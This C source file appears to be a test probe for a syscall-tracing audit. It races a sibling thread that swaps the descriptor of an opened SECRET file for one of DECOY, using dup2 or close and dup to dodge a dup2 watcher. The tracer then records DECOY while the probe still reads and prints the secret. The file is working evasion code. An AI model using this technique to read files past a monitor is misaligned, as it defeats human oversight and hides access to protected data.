// A probe for the audit's descriptor swap: one thread opens SECRET while a sibling thread, which
// shares its descriptor table, replaces the descriptor the open returned with one of DECOY before
// the tracer reads the descriptor's path at the open's return. The sibling keeps a copy of the
// secret's descriptor, so the probe still reads the secret, while a tracer that judges the open by
// the descriptor's path at that moment sees DECOY.
//
//   fd_swap_probe dup2|close SECRET DECOY
//
// dup2: the sibling swaps with dup2 (one call). close: with close and dup, the way around a
// tracer that watches dup2 alone. Prints "LEAKED:<first line of SECRET>" when it read the secret
// through the swapped descriptor, "LOST" when every attempt lost the race.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { kAttempts = 200 };

static const char *secret_path;
static int decoy_fd = -1;
static int slot = -1;  // the number the next open will return
static int use_close = 0;
static struct stat secret_st;
static atomic_int kept = -1;  // the sibling's copy of the secret's descriptor
static atomic_int stop = 0;
static atomic_int running = 0;

static void *swapper(void *arg) {
    (void)arg;
    atomic_store(&running, 1);
    while (!atomic_load(&stop)) {
        // Copy first, swap at once, look after: the swap must land before the tracer reads.
        const int copy = dup(slot);
        if (copy < 0) continue;
        if (use_close) {
            close(slot);
            const int again = dup(decoy_fd);
            if (again != slot && again >= 0) close(again);
        } else {
            dup2(decoy_fd, slot);
        }
        struct stat st;
        if (fstat(copy, &st) == 0 && st.st_ino == secret_st.st_ino &&
            st.st_dev == secret_st.st_dev) {
            atomic_store(&kept, copy);
            while (!atomic_load(&stop)) {
            }
            return NULL;
        }
        close(copy);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    use_close = strcmp(argv[1], "close") == 0;
    secret_path = argv[2];
    if (stat(secret_path, &secret_st) != 0) return 2;
    decoy_fd = open(argv[3], O_RDONLY | O_CLOEXEC);
    if (decoy_fd < 0) return 2;
    // The lowest free number is what the next open returns.
    slot = dup(decoy_fd);
    close(slot);
    pthread_t t;
    if (pthread_create(&t, NULL, swapper, NULL) != 0) return 2;
    // A thread a tracer follows starts only once the tracer took it in: open when it spins.
    while (!atomic_load(&running)) {
    }
    // Time for the scheduler to move the spinning sibling to a processor of its own.
    const struct timespec settle = {0, 50000000};
    nanosleep(&settle, NULL);
    for (int i = 0; i < kAttempts && atomic_load(&kept) < 0; ++i) {
        const int fd = open(secret_path, O_RDONLY | O_CLOEXEC);
        const struct timespec pause = {0, 2000000};
        nanosleep(&pause, NULL);
        if (atomic_load(&kept) < 0 && fd >= 0) close(fd);
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    const int copy = atomic_load(&kept);
    if (copy < 0) {
        puts("LOST");
        return 1;
    }
    char line[256] = {0};
    const ssize_t n = pread(copy, line, sizeof line - 1, 0);
    if (n <= 0) return 1;
    line[strcspn(line, "\n")] = '\0';
    printf("LEAKED:%s\n", line);
    return 0;
}
